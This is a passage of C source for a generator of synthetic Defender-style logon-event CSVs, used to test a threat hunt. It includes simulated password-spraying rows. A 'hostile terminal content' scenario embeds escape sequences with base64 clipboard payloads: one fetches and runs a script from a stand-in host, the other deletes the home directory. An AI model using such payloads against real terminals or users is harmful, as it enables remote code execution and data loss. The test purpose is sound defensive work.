    int remote_session; /* -1 empty */
    const char *rs_dev, *rs_ip; /* remote session client, for RDP-hosted processes */
    const char *ts_text; /* Timestamp written as this text instead of ts ("" = empty) */
    char b_sid[80], b_rip[48], b_addl[192], b_upn[112], b_rdev[48];
} logon_t;

static const char *const LOGON_COLUMNS[] = {
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "LogonType", "AccountDomain", "AccountName",
    "AccountSid", "Protocol", "FailureReason", "IsLocalAdmin", "LogonId", "RemoteDeviceName", "RemoteIP",
    "RemoteIPType", "RemotePort", "InitiatingProcessAccountDomain", "InitiatingProcessAccountName",
    "InitiatingProcessAccountSid", "InitiatingProcessAccountUpn", "InitiatingProcessAccountObjectId",
    "InitiatingProcessIntegrityLevel", "InitiatingProcessTokenElevation", "InitiatingProcessSHA1",
    "InitiatingProcessSHA256", "InitiatingProcessMD5", "InitiatingProcessFileName",
    "InitiatingProcessFileSize", "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName", "InitiatingProcessVersionInfoProductVersion",
    "InitiatingProcessVersionInfoInternalFileName", "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessVersionInfoFileDescription", "InitiatingProcessId", "InitiatingProcessCommandLine",
    "InitiatingProcessCreationTime", "InitiatingProcessFolderPath", "InitiatingProcessParentId",
    "InitiatingProcessParentFileName", "InitiatingProcessParentCreationTime", "ReportId",
    "AppGuardContainerId", "AdditionalFields", "InitiatingProcessSessionId",
    "IsInitiatingProcessRemoteSession", "InitiatingProcessRemoteSessionDeviceName",
    "InitiatingProcessRemoteSessionIP",
};

/* Booleans: the portal's CSV export writes bool columns as 1/0 (the real
 * export under shared/realdata shows IsLocalAdmin "1" and IsClickedThrough
 * "0"); only JSON inside dynamic columns spells true/false. */
static void w_bool(csvw_t *w, int v)
{
    if (v < 0)
        w_empty(w);
    else
        w_field_n(w, v ? "1" : "0", 1);
}

static void emit_logon(csvw_t *w, logon_t *e)
{
    device_t *dev = e->dev;
    if (e->ts_text)
        w_field(w, e->ts_text);
    else
        w_ts(w, e->ts);
    w_field_n(w, dev->id, 40);
    w_field(w, dev->name);
    w_field(w, e->action);
    w_field(w, e->ltype);
    w_field(w, e->adom);
    w_field(w, e->aname);
    w_field(w, e->asid);
    w_field(w, e->proto);
    w_field(w, e->freason);
    w_bool(w, e->isadmin);
    if (e->logonid)
        w_u64(w, e->logonid);
    else
        w_empty(w);
    w_field(w, e->rdev);
    w_field(w, e->rip);
    w_field(w, e->riptype);
    if (e->rport >= 0)
        w_u64(w, (uint64_t)e->rport);
    else
        w_empty(w);

    const proc_t *p = e->proc;
    if (p) {
        w_field(w, e->ip_adom);
        w_field(w, e->ip_aname);
        w_field(w, e->ip_asid);
        w_field(w, e->ip_upn);
        w_field(w, e->ip_objid);
        w_field(w, p->integrity);
        w_field(w, p->elevation);
        w_field_n(w, p->sha1, 40);
        w_field_n(w, p->sha256, 64);
        w_field_n(w, p->md5, 32);
        w_field(w, p->file);
        w_u64(w, p->size);
        w_field(w, p->company);
        w_field(w, p->product);
        w_field(w, p->version);
        w_field(w, p->file);
        w_field(w, p->file);
        w_field(w, p->desc);
        w_u64(w, e->pid);
        w_field(w, e->cmdline);
        w_ts(w, e->pctime);
        w_field(w, p->folder);
        w_u64(w, e->ppid);
        w_field(w, p->parent);
        w_ts(w, e->ppctime);
    } else {
        /* Remote network logons have no local initiating process: the
         * portal shows 0 for the PIDs, "None" for the elevation and leaves
         * the rest empty (as in the real export). */
        for (int i = 0; i < 6; i++)
            w_empty(w);
        w_field_n(w, "None", 4);
        for (int i = 0; i < 11; i++)
            w_empty(w);
        w_field_n(w, "0", 1);
        w_empty(w);
        w_empty(w);
        w_empty(w);
        w_field_n(w, "0", 1);
        w_empty(w);
        w_empty(w);
    }
    dev->report += 1 + (dev->report % 7);
    w_u64(w, dev->report);
    w_empty(w); /* AppGuardContainerId: virtually always empty */
    w_field(w, e->addl);
    if (e->session >= 0)
        w_u64(w, (uint64_t)e->session);
    else
        w_empty(w);
    w_bool(w, e->remote_session);
    w_field(w, e->rs_dev);
    w_field(w, e->rs_ip);
    w_end_row(w);
}

/* ------------------------------------------------------------ generation */

typedef struct {
    uint64_t seed;
    uint64_t logons, network, identity;
    int crlf, bom, sample, edge;
    const char *outdir;
} opts_t;

typedef struct {
    device_t *dev;
    uint32_t ndev;
    account_t *acct;
    uint32_t nacct;
    pubip_t *pub;
    uint32_t npub;
    zipf_t pub_zipf, acct_zipf;
    uint32_t n_pub_device; /* pool entries with PUB_DEVICE, all among the first DeviceNetworkInfo rows */
} world_t;

static void make_account_name(rng_t *r, account_t *a, uint32_t idx)
{
    int intl_f = rng_chance(r, 0.05), intl_l = rng_chance(r, 0.05);
    const char *f = intl_f ? PICK(r, FIRST_INTL) : PICK(r, FIRST_ASCII);
    const char *l = intl_l ? PICK(r, LAST_INTL) : PICK(r, LAST_ASCII);
    char base[40];
    double u = rng_unit(r);
    if (u < 0.5) {
        snprintf(base, sizeof base, "%s.%s", f, l);
    } else if (u < 0.85) {
        /* First letter of a UTF-8 first name may be multi-byte: copy the
         * whole first code point. */
        size_t cp = 1;
        while (((unsigned char)f[cp] & 0xC0) == 0x80)
            cp++;
        snprintf(base, sizeof base, "%.*s%s", (int)cp, f, l);
    } else {
        snprintf(base, sizeof base, "%s%s", f, l);
    }
    /* Some directories use capitalised names; only touch ASCII letters. */
    if (rng_chance(r, 0.1) && base[0] >= 'a' && base[0] <= 'z')
        base[0] = (char)(base[0] - 'a' + 'A');
    if (rng_chance(r, 0.15) || idx % 97 == 0)
        snprintf(a->name, sizeof a->name, "%s%u", base, 1 + rng_below(r, 99));
    else
        snprintf(a->name, sizeof a->name, "%s", base);
    /* Display name: "First Last", capitalising ASCII initials only. */
    snprintf(a->display, sizeof a->display, "%s %s", f, l);
    if (a->display[0] >= 'a' && a->display[0] <= 'z')
        a->display[0] = (char)(a->display[0] - 'a' + 'A');
    char *sp = strchr(a->display, ' ');
    if (sp && sp[1] >= 'a' && sp[1] <= 'z')
        sp[1] = (char)(sp[1] - 'a' + 'A');
}

static void world_init(world_t *W, const opts_t *o)
{
    rng_t r;
    rng_seed(&r, o->seed, STREAM_WORLD);

    W->ndev = (uint32_t)(o->logons / 100 < 5 ? 5 : o->logons / 100);
    W->nacct = (uint32_t)(o->logons / 20 < 10 ? 10 : o->logons / 20);
    W->npub = (uint32_t)(o->logons / 200 < 40 ? 40 : o->logons / 200);
    W->dev = calloc(W->ndev, sizeof *W->dev);
    W->acct = calloc(W->nacct, sizeof *W->acct);
    W->pub = calloc(W->npub, sizeof *W->pub);
    if (!W->dev || !W->acct || !W->pub)
        die("out of memory");

    for (uint32_t i = 0; i < W->ndev; i++) {
        device_t *d = &W->dev[i];
        rand_hex(&r, d->id, 40, HEX);
        double u = rng_unit(&r);
        const char *suffix = PICK(&r, DEVICE_SUFFIX);
        if (u < 0.72) {
            d->kind = 0;
            snprintf(d->shortname, sizeof d->shortname, "ws-%04u", i);
        } else if (u < 0.85) {
            d->kind = 1;
            snprintf(d->shortname, sizeof d->shortname, "lt-%04u", i);
        } else if (u < 0.98) {
            d->kind = 2;
            snprintf(d->shortname, sizeof d->shortname, "srv-%s-%03u", PICK(&r, SRV_ROLES), i % 1000);
        } else {
            d->kind = 3;
            snprintf(d->shortname, sizeof d->shortname, "dc-%02u", i % 100);
        }
        snprintf(d->name, sizeof d->name, "%s.%s", d->shortname, suffix);
        d->ip4 = IP4(10, rng_below(&r, 24), rng_below(&r, 64), rng_range(&r, 10, 250));
        d->ll6[0] = (uint16_t)rng_range(&r, 1, 0xffff);
        for (int k = 1; k < 4; k++)
            d->ll6[k] = (uint16_t)rng_range(&r, 1, 0xffff);
        d->public_ip = -1;
        /* Hyper-V, Dell and Intel OUIs: devices look like a real fleet. */
        static const char *const OUI[] = { "00155D", "D4BED9", "3C2C30", "F8B46A", "A4BB6D" };
        memcpy(d->mac, PICK(&r, OUI), 6);
        rand_hex(&r, d->mac + 6, 6, HEXU);
        for (int k = 0; k < 3; k++)
            d->local_sid[k] = (uint32_t)rng_range(&r, 100000000, 4000000000u);
        d->report = rng_range(&r, 1000, 200000);
    }

    for (uint32_t i = 0; i < W->nacct; i++) {
        account_t *a = &W->acct[i];
        double u = rng_unit(&r);
        a->dom = u < 0.45 ? DOM_CONTOSO : u < 0.60 ? DOM_FABRIKAM : u < 0.80 ? DOM_CONTOSO_LOCAL
                 : u < 0.85 ? DOM_EMPTY : DOM_LOCAL;
        double k = rng_unit(&r);
        if (k < 0.86) {
            a->kind = 0;
            make_account_name(&r, a, i);
        } else if (k < 0.96) {
            a->kind = 1;
            const char *role = PICK(&r, SVC_ROLES);
            if (rng_chance(&r, 0.5))
                snprintf(a->name, sizeof a->name, "svc_%s", role);
            else
                snprintf(a->name, sizeof a->name, "svc_%s%02u", role, 1 + rng_below(&r, 40));
            snprintf(a->display, sizeof a->display, "Service account (%s)", role);
        } else {
            a->kind = 2;
            account_t tmp;
            make_account_name(&r, &tmp, i);
            if (rng_chance(&r, 0.1))
                snprintf(a->name, sizeof a->name, "%s", rng_chance(&r, 0.5) ? "administrator" : "admin");
            else
                snprintf(a->name, sizeof a->name, "adm_%.40s", tmp.name);
            snprintf(a->display, sizeof a->display, "%.50s (admin)", tmp.display);
        }
        a->rid = 1100 + i * 3 + rng_below(&r, 3);
        rand_guid(&r, a->objid);
    }

    /* Public pool: mostly IPv4, roughly one in eight IPv6. */
    for (uint32_t i = 0; i < W->npub; i++) {
        pubip_t *p = &W->pub[i];
        p->v6 = (uint8_t)rng_chance(&r, 0.12);
        if (p->v6)
            rand_public_v6(&r, p->text, POOL_V6_PREFIX, ARRAY_LEN(POOL_V6_PREFIX));
        else
            rand_public_v4(&r, p->text, POOL_OCTETS, ARRAY_LEN(POOL_OCTETS));
        p->acct = rng_below(&r, W->nacct);
        double u = rng_unit(&r);
        p->ltype = u < 0.72 ? LT_NETWORK : u < 0.92 ? LT_REMOTEINTERACTIVE : u < 0.97 ? LT_INTERACTIVE : LT_BATCH;
        double v = rng_unit(&r);
        p->action = v < 0.6 ? AT_SUCCESS : v < 0.93 ? AT_FAILED : AT_ATTEMPTED;
        /* Where else is this address seen?  The Zipf rank decides how much
         * traffic it gets, so a couple of the heaviest ones are forced into
         * each category to make both anti-joins remove big groups. */
        double f = rng_unit(&r);
        if (i == 1 || (i > 4 && f < 0.08))
            p->flags |= PUB_DEVICE;
        double g = rng_unit(&r);
        if (i == 2 || (i > 4 && g < 0.05))
            p->flags |= PUB_ID_ISP;
        else if (i == 3 || (i > 4 && g < 0.09))
            p->flags |= PUB_ID_INTERNAL; /* seen only as internal: stays a hit */
        else if (i > 4 && g < 0.11)
            p->flags |= PUB_ID_EMPTY;
        else if (i > 4 && g < 0.13)
            p->flags |= PUB_ID_INTERNAL | PUB_ID_ISP;
    }
    /* Device-assigned public addresses must all appear in
     * DeviceNetworkInfo; the first rows of that table walk the devices in
     * order, so hand them to devices that are guaranteed to be written. */
    uint32_t slots = W->ndev < o->network ? W->ndev : (uint32_t)o->network;
    uint32_t next_dev = 0;
    W->n_pub_device = 0;
    for (uint32_t i = 0; i < W->npub; i++) {
        if (!(W->pub[i].flags & PUB_DEVICE))
            continue;
        if (next_dev >= slots) {
            W->pub[i].flags &= (uint8_t)~PUB_DEVICE;
            continue;
        }
        /* Spread over the fleet; servers first would be more realistic but
         * the stride keeps it simple and deterministic. */
        uint32_t d = (next_dev * 7u) % slots;
        while (W->dev[d].public_ip >= 0)
            d = (d + 1) % slots;
        W->dev[d].public_ip = (int32_t)i;
        next_dev++;
        W->n_pub_device++;
    }

    zipf_init(&W->pub_zipf, W->npub, 0.0);
    zipf_init(&W->acct_zipf, W->nacct, 20.0);
}

/* Fill the account-related fields of a logon. */
static void set_account(logon_t *e, const account_t *a, const device_t *d)
{
    if (a->dom == DOM_LOCAL) {
        e->adom = d->shortname;
        snprintf(e->b_sid, sizeof e->b_sid, "S-1-5-21-%u-%u-%u-%u", d->local_sid[0], d->local_sid[1],
                 d->local_sid[2], a->kind == 2 ? 500u : 1000u + a->rid % 50);
        e->asid = e->b_sid;
    } else {
        e->adom = DOMAINS[a->dom].netbios;
        if (DOMAINS[a->dom].sid[0]) {
            snprintf(e->b_sid, sizeof e->b_sid, "%s-%u", DOMAINS[a->dom].sid, a->rid);
            e->asid = e->b_sid;
        } else {
            e->asid = "";
        }
    }
    e->aname = a->name;
}

static void set_process(rng_t *r, logon_t *e, const proc_t *p, const account_t *user)
{
    e->proc = p;
    if (!p)
        return;
    e->cmdline = p->cmdline ? p->cmdline : pick_ps_cmdline(r);
    if (p->system || !user) {
        e->ip_adom = "nt authority";
        e->ip_aname = "system";
        e->ip_asid = "S-1-5-18";
        e->ip_upn = "";
        e->ip_objid = "";
    } else {
        e->ip_adom = user->dom == DOM_LOCAL ? e->dev->shortname : DOMAINS[user->dom].netbios;
        if (!e->ip_adom[0])
            e->ip_adom = "contoso";
        e->ip_aname = user->name;
        e->ip_asid = e->asid;
        snprintf(e->b_upn, sizeof e->b_upn, "%s@%s", user->name, DOMAINS[user->dom == DOM_LOCAL ? 0 : user->dom].dns);
        e->ip_upn = e->b_upn;
        e->ip_objid = user->objid;
    }
    e->pid = 4 * rng_range(r, 100, 16000);
    e->ppid = 4 * rng_range(r, 100, 2000);
    e->pctime = e->ts - (int64_t)rng_range(r, 1, 3 * 86400) * TICKS_PER_SEC - rng_below(r, TICKS_PER_SEC);
    e->ppctime = e->pctime - (int64_t)rng_range(r, 0, 60) * TICKS_PER_SEC - rng_below(r, TICKS_PER_SEC);
    e->pctime = quantise_ts(r, e->pctime);
    e->ppctime = quantise_ts(r, e->ppctime);
    e->session = p->system ? 0 : (int)rng_range(r, 1, 9);
    e->remote_session = 0;
}

static const proc_t *proc_for(rng_t *r, int lt, int public_ip)
{
    switch (lt) {
    case LT_NETWORK:
        /* Inbound network logons are usually recorded without a local
         * process; the rest are lsass/services doing the work. */
        if (rng_chance(r, public_ip ? 0.2 : 0.05))
            return NULL;
        return rng_chance(r, 0.8) ? &PROCS[P_LSASS] : &PROCS[P_SERVICES];
    case LT_REMOTEINTERACTIVE:
        return rng_chance(r, 0.6) ? &PROCS[P_SVCHOST_TERM] : &PROCS[P_WINLOGON];
    case LT_INTERACTIVE:
    case LT_UNLOCK:
        return rng_chance(r, 0.7) ? &PROCS[P_WINLOGON] : &PROCS[P_SVCHOST_USERMGR];
    case LT_CACHED:
        return &PROCS[P_SVCHOST_USERMGR];
    case LT_BATCH: {
        double u = rng_unit(r);
        return u < 0.5 ? &PROCS[P_SVCHOST_SCHEDULE] : u < 0.8 ? &PROCS[P_POWERSHELL] : &PROCS[P_TASKHOSTW];
    }
    default: /* LT_SERVICE */
        return rng_chance(r, 0.85) ? &PROCS[P_SERVICES] : &PROCS[P_CONSENT];
    }
}

static void set_addl(logon_t *e, int local, const account_t *a)
{
    if (local < 0) {
        e->addl = "{}";
    } else if (a && a->kind == 0 && a->dom != DOM_LOCAL && local) {
        snprintf(e->b_addl, sizeof e->b_addl, "{\"IsLocalLogon\":true,\"Upn\":\"%s@%s\"}", a->name,
                 DOMAINS[a->dom].dns);
        e->addl = e->b_addl;
    } else {
        e->addl = local ? "{\"IsLocalLogon\":true}" : "{\"IsLocalLogon\":false}";
    }
}

static const char *const ATTACKER_HOSTS[] = { "", "", "", "kali", "WIN-3F8KQ2LD7M1", "DESKTOP-7H3K2LQ", "vps-1120", "-" };

static int pick_ltype(rng_t *r, int public_ip)
{
    double u = rng_unit(r);
    if (public_ip)
        return u < 0.70 ? LT_NETWORK : u < 0.92 ? LT_REMOTEINTERACTIVE : u < 0.96 ? LT_INTERACTIVE : LT_BATCH;
    return u < 0.42 ? LT_NETWORK : u < 0.48 ? LT_REMOTEINTERACTIVE : u < 0.58 ? LT_INTERACTIVE
           : u < 0.68 ? LT_BATCH : u < 0.86 ? LT_SERVICE : u < 0.94 ? LT_UNLOCK : LT_CACHED;
}

static int pick_action(rng_t *r)
{
    double u = rng_unit(r);
    return u < 0.80 ? AT_SUCCESS : u < 0.95 ? AT_FAILED : AT_ATTEMPTED;
}

static void fill_outcome(rng_t *r, logon_t *e, int action, int lt)
{
    e->action = ACTIONS[action];
    e->ltype = LOGON_TYPES[lt];
    e->freason = action == AT_FAILED ? PICK(r, FAILURE_REASONS) : "";
    if (lt == LT_NETWORK)
        e->proto = PICK(r, ((const char *const[]){ "NTLM", "NTLM", "Kerberos", "Kerberos", "Kerberos", "Negotiate" }));
    else if (lt == LT_SERVICE || lt == LT_BATCH)
        e->proto = rng_chance(r, 0.5) ? "Negotiate" : "";
    else
        e->proto = rng_chance(r, 0.7) ? "Negotiate" : "Kerberos";
    e->logonid = action == AT_SUCCESS ? (uint64_t)rng_range(r, 100000, 4000000000u) : 0;
    if (action == AT_SUCCESS && (lt == LT_INTERACTIVE || lt == LT_REMOTEINTERACTIVE || lt == LT_BATCH ||
                                 lt == LT_CACHED))
        e->isadmin = rng_chance(r, 0.2);
    else
        e->isadmin = -1;
}

static int64_t spread_ts(rng_t *r, uint64_t i, uint64_t n)
{
    /* Roughly chronological with +-90 minutes of jitter: the export is not
     * strictly sorted, as portal results rarely are. */
    int64_t t = BASE_TICKS + (int64_t)((double)SPAN_TICKS * ((double)i / (double)(n ? n : 1)));
    t += (int64_t)rng_below(r, 180 * 60) * TICKS_PER_SEC - 90LL * 60 * TICKS_PER_SEC;
    t += (int64_t)rng_below(r, (uint32_t)TICKS_PER_SEC);
    if (t < BASE_TICKS)
        t = BASE_TICKS + (int64_t)rng_below(r, 3600) * TICKS_PER_SEC;
    return quantise_ts(r, t);
}

static void gen_random_logon(rng_t *r, world_t *W, logon_t *e, uint64_t i, uint64_t n)
{
    memset(e, 0, offsetof(logon_t, b_sid));
    e->session = -1;
    e->remote_session = -1;
    e->rport = -1;
    e->ts = spread_ts(r, i, n);
    device_t *d = &W->dev[rng_below(r, W->ndev)];
    e->dev = d;

    int is_public = rng_chance(r, 0.20);
    const account_t *a;
    int lt, action;
    if (is_public) {
        const pubip_t *p = &W->pub[zipf_draw(&W->pub_zipf, r)];
        if (rng_chance(r, 0.65)) {
            /* This address's habitual account and behaviour: these rows
             * build the big groups of the hunt. */
            a = &W->acct[p->acct];
            lt = p->ltype;
            action = p->action;
        } else {
            a = &W->acct[zipf_draw(&W->acct_zipf, r)];
            lt = pick_ltype(r, 1);
            action = pick_action(r);
        }
        e->rip = p->text;
        e->riptype = "Public";
        e->rport = (int)rng_range(r, 1024, 65535);
        e->rdev = PICK(r, ATTACKER_HOSTS);
    } else {
        a = &W->acct[zipf_draw(&W->acct_zipf, r)];
        lt = pick_ltype(r, 0);
        action = pick_action(r);
        double u = rng_unit(r);
        if (lt == LT_NETWORK || lt == LT_REMOTEINTERACTIVE) {
            if (u < 0.85) {
                /* Usually another device of the fleet. */
                const device_t *src = &W->dev[rng_below(r, W->ndev)];
                fmt_ip4(e->b_rip, src->ip4);
                e->rdev = rng_chance(r, 0.8) ? src->shortname : "";
            } else if (u < 0.95) {
                fmt_ip4(e->b_rip, rng_chance(r, 0.5) ? IP4(192, 168, rng_below(r, 8), rng_range(r, 2, 250))
                                                     : IP4(172, 16 + rng_below(r, 16), rng_below(r, 256), rng_range(r, 2, 250)));
                e->rdev = "";
            } else {
                /* IPv4-mapped IPv6 of a private host. */
                char v4[20];
                fmt_ip4(v4, IP4(10, rng_below(r, 24), rng_below(r, 64), rng_range(r, 10, 250)));
                snprintf(e->b_rip, sizeof e->b_rip, "::ffff:%s", v4);
                e->riptype = "FourToSixMapping";
                e->rdev = "";
            }
            e->rip = e->b_rip;
            if (!e->riptype)
                e->riptype = "Private";
            e->rport = (int)rng_range(r, 1024, 65535);
        } else if (u < 0.45) {
            e->rip = rng_chance(r, 0.85) ? "127.0.0.1" : "::1";
            e->riptype = "Loopback";
            e->rport = 0;
            e->rdev = "";
        } else if (u < 0.85) {
            e->rip = "-";
            e->riptype = "";
            e->rdev = "";
        } else {
            e->rip = "";
            e->riptype = "";
            e->rdev = "";
        }
    }
    set_account(e, a, d);
    fill_outcome(r, e, action, lt);
    set_process(r, e, proc_for(r, lt, is_public), a);
    int local = lt == LT_NETWORK ? 0 : lt == LT_REMOTEINTERACTIVE ? 0 : 1;
    set_addl(e, rng_chance(r, 0.15) ? -1 : local, a);
    if (e->proc && lt == LT_REMOTEINTERACTIVE) {
        /* The RDP client is the remote side of this very logon. */
        e->remote_session = 1;
        e->rs_dev = e->rdev && e->rdev[0] && e->rdev[0] != '-' ? e->rdev : "DESKTOP-RDPCLIENT";
        e->rs_ip = e->rip;
    }
}

/* -------------------------------------------------------- sample scenarios */

/* Hand-designed rows added by --sample.  Every address below is outside the
 * first octets used for the random pools, so none of them is device-assigned
 * or seen in IdentityLogonEvents with an ISP other than INTERNAL_NETWORK:
 * they all survive both anti-joins and show up as hits.  Keep this table and
 * tests/gen/SCENARIOS.md in sync. */
typedef struct {
    int scenario; /* 1..5 false-positive scenarios, 6 suspicious, 7 hostile-display */
    const char *adom, *aname;
    int lt, action;
    const char *proto;
    const char *freason;
    const char *ips[5];
    unsigned count;
    int proc; /* -1: no initiating process */
    const char *cmdline; /* NULL: the profile's own */
    unsigned ndev; /* spread over this many devices (a fixed subset) */
    const char *rdev;
} sample_t;

#define MAINT_PS "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"\\\\fs01.contoso.com\\it$\\patching\\Invoke-MonthlyPatch.ps1\" -Ring 2"
/* The hostile strings: clear screen (ESC [ 2 J), an OSC 52 clipboard write
 * (ESC ] 52 ; c ; base64 BEL) and a bare BEL.  Raw control bytes are legal
 * in CSV and are not a reason to quote, which is exactly the point. */
#define HOSTILE_NAME "x\x1b[2J\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07\x07" "admin"
#define HOSTILE_CMD "cmd.exe /c echo \x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07 done\x07"

/* MicrosoftDefenderForEndpoint service tag, ServiceTags_Public.json
 * changeNumber 375 (tag changeNumber 7): IPv4 prefixes used below are
 * 13.83.125.0/24, 20.10.127.0/24, 4.208.13.0/24 and 20.15.141.0/24. */
static const sample_t SAMPLES[] = {
    /* 1. Maintenance automation from the company's public egress range. */
    { 1, "CONTOSO", "svc_patch", LT_BATCH, AT_SUCCESS, "Kerberos", "", { "91.218.114.10", "91.218.114.11" },
      48, P_POWERSHELL, MAINT_PS, 40, "" },
    { 1, "CONTOSO", "svc_patch", LT_NETWORK, AT_SUCCESS, "NTLM", "", { "91.218.114.10", "91.218.114.11", "91.218.114.25" },
      64, -1, NULL, 60, "PATCH-ORCH01" },
    { 1, "CONTOSO", "svc_patch", LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "91.218.114.25" },
      4, -1, NULL, 4, "PATCH-ORCH01" },
    { 1, "CONTOSO", "svc_taskrunner", LT_BATCH, AT_SUCCESS, "", "", { "91.218.114.25" },
      18, P_SVCHOST_SCHEDULE, NULL, 12, "" },
    /* 2. SIEM / log collectors pulling events from one collector IP. */
    { 2, "CONTOSO", "svc_splunk", LT_NETWORK, AT_SUCCESS, "Kerberos", "", { "157.97.109.40" },
      72, P_SPLUNKD, NULL, 50, "splunk-hf01" },
    { 2, "CONTOSO", "svc_splunk", LT_NETWORK, AT_FAILED, "Kerberos", "AccountLocked", { "157.97.109.40" },
      3, -1, NULL, 3, "splunk-hf01" },
    { 2, "CONTOSO", "svc_wec", LT_NETWORK, AT_SUCCESS, "Kerberos", "", { "157.97.109.40" },
      56, P_WECSVC, NULL, 45, "wec01" },
    /* 3. Remote Desktop Services gateways and Remote Assistance. */
    { 3, "CONTOSO", "anna.kowalska", LT_REMOTEINTERACTIVE, AT_SUCCESS, "Negotiate", "", { "194.153.110.20", "194.153.110.21" },
      14, P_SVCHOST_TERM, NULL, 3, "RDGW01" },
    { 3, "CONTOSO", "mehmet.yilmaz", LT_REMOTEINTERACTIVE, AT_SUCCESS, "Negotiate", "", { "194.153.110.20", "194.153.110.21" },
      11, P_SVCHOST_TERM, NULL, 2, "RDGW02" },
    { 3, "FABRIKAM", "sofia.rossi", LT_REMOTEINTERACTIVE, AT_SUCCESS, "Kerberos", "", { "194.153.110.21" },
      9, P_WINLOGON, NULL, 2, "RDGW02" },
    { 3, "CONTOSO", "anna.kowalska", LT_REMOTEINTERACTIVE, AT_FAILED, "Negotiate", "InvalidUserNameOrPassword", { "194.153.110.20" },
      2, P_SVCHOST_TERM, NULL, 1, "RDGW01" },
    { 3, "CONTOSO", "helpdesk.t1", LT_REMOTEINTERACTIVE, AT_SUCCESS, "Kerberos", "", { "194.153.110.20" },
      7, P_MSRA, NULL, 7, "RDGW01" },
    /* 4. Defender for Endpoint's own connectivity/health checks. */
    { 4, "NT AUTHORITY", "ANONYMOUS LOGON", LT_NETWORK, AT_SUCCESS, "NTLM", "",
      { "13.83.125.17", "13.83.125.201", "20.10.127.33", "4.208.13.86", "20.15.141.5" },
      40, P_MSSENSE, NULL, 30, "" },
    { 4, "NT AUTHORITY", "ANONYMOUS LOGON", LT_NETWORK, AT_ATTEMPTED, "NTLM", "", { "20.10.127.33", "4.208.13.86" },
      12, -1, NULL, 12, "" },
    /* 5. Backup jobs. */
    { 5, "CONTOSO", "svc_veeam", LT_NETWORK, AT_SUCCESS, "Kerberos", "", { "88.198.201.14", "88.198.201.15" },
      66, P_VEEAM, NULL, 55, "vbr01" },
    { 5, "CONTOSO", "svc_veeam", LT_BATCH, AT_SUCCESS, "", "", { "88.198.201.14" },
      10, P_VEEAM, NULL, 5, "vbr01" },
    { 5, "FABRIKAM", "svc_commvault", LT_NETWORK, AT_SUCCESS, "NTLM", "", { "92.204.51.77" },
      38, P_COMMVAULT, NULL, 30, "cvcs01" },
    /* 6. Genuinely suspicious: password spraying and an odd RDP success. */
    { 6, "", "administrator", LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "185.220.101.47" },
      96, -1, NULL, 70, "" },
    { 6, "", "administrator", LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "193.142.146.226" },
      61, -1, NULL, 50, "kali" },
    { 6, "", "admin", LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "193.142.146.226" },
      27, -1, NULL, 20, "kali" },
    { 6, "", "administrator", LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "45.95.147.236" },
      33, -1, NULL, 25, "WIN-3F8KQ2LD7M1" },
    { 6, "CONTOSO", "m.fischer", LT_REMOTEINTERACTIVE, AT_FAILED, "Negotiate", "InvalidUserNameOrPassword", { "102.89.34.17" },
      2, P_SVCHOST_TERM, NULL, 1, "DESKTOP-Q8N4VJ2" },
    { 6, "CONTOSO", "m.fischer", LT_REMOTEINTERACTIVE, AT_SUCCESS, "Negotiate", "", { "102.89.34.17" },
      1, P_SVCHOST_TERM, NULL, 1, "DESKTOP-Q8N4VJ2" },
    /* 7. Hostile terminal content, to exercise display escaping. */
    { 7, "CONTOSO", HOSTILE_NAME, LT_NETWORK, AT_FAILED, "NTLM", "InvalidUserNameOrPassword", { "5.188.206.14" },
      1, P_POWERSHELL, HOSTILE_CMD, 1, "" },
};

static unsigned sample_total(void)
{
    unsigned n = 0;
    for (size_t i = 0; i < ARRAY_LEN(SAMPLES); i++)
        n += SAMPLES[i].count;
    return n;
}

static void gen_sample_logon(rng_t *r, world_t *W, logon_t *e, const sample_t *s, uint64_t i, uint64_t n)
{
    memset(e, 0, offsetof(logon_t, b_sid));
    e->session = -1;
    e->remote_session = -1;
    e->ts = spread_ts(r, i, n);
    /* A fixed subset of the fleet per scenario row: spec index picks where
     * it starts so the subsets differ. */
    uint32_t base = (uint32_t)(s - SAMPLES) * 131u % W->ndev;
    uint32_t span = s->ndev < W->ndev ? s->ndev : W->ndev;
    device_t *d = &W->dev[(base + rng_below(r, span ? span : 1)) % W->ndev];
    e->dev = d;
    e->adom = s->adom;
    e->aname = s->aname;
    if (!strcmp(s->adom, "NT AUTHORITY"))
        e->asid = "S-1-5-7"; /* the well-known SID of ANONYMOUS LOGON */
    else if (!s->adom[0])
        e->asid = "";
    else {
        /* Stable RID per account name so the SID does not wobble. */
        uint32_t h = 2166136261u;
        for (const char *p = s->aname; *p; p++)
            h = (h ^ (unsigned char)*p) * 16777619u;
        snprintf(e->b_sid, sizeof e->b_sid, "%s-%u",
                 DOMAINS[!strcmp(s->adom, "FABRIKAM") ? DOM_FABRIKAM : DOM_CONTOSO].sid, 5000 + h % 20000);
        e->asid = e->b_sid;
    }
    unsigned nips = 0;
    while (nips < ARRAY_LEN(s->ips) && s->ips[nips])
        nips++;
    e->rip = s->ips[rng_below(r, nips)];
    e->riptype = "Public";
    e->rport = (int)rng_range(r, 1024, 65535);
    e->rdev = s->rdev;
    fill_outcome(r, e, s->action, s->lt);
    e->proto = s->proto;
    e->freason = s->freason;
    if (s->proc >= 0) {
        set_process(r, e, &PROCS[s->proc], NULL);
        if (s->cmdline)
            e->cmdline = s->cmdline;
        if (s->lt == LT_REMOTEINTERACTIVE) {
            e->remote_session = 1;
            e->rs_dev = s->rdev;
            e->rs_ip = e->rip;
        }
    }
    e->addl = s->lt == LT_REMOTEINTERACTIVE ? "{\"IsLocalLogon\":false}" : (rng_chance(r, 0.5) ? "{}" : "{\"IsLocalLogon\":false}");
}


/* ------------------------------------------------------------ edge cases */

/* Rows added by --edge, after the other rows of each table: the inputs
 * where a reimplementation of the hunt most easily parts from Kusto.  Every
 * address is in 41.77.0.0/16 or 2c0f:f7a8::/32, which no other row uses,
 * so each case shows in the result (or is missing from it) on its own.
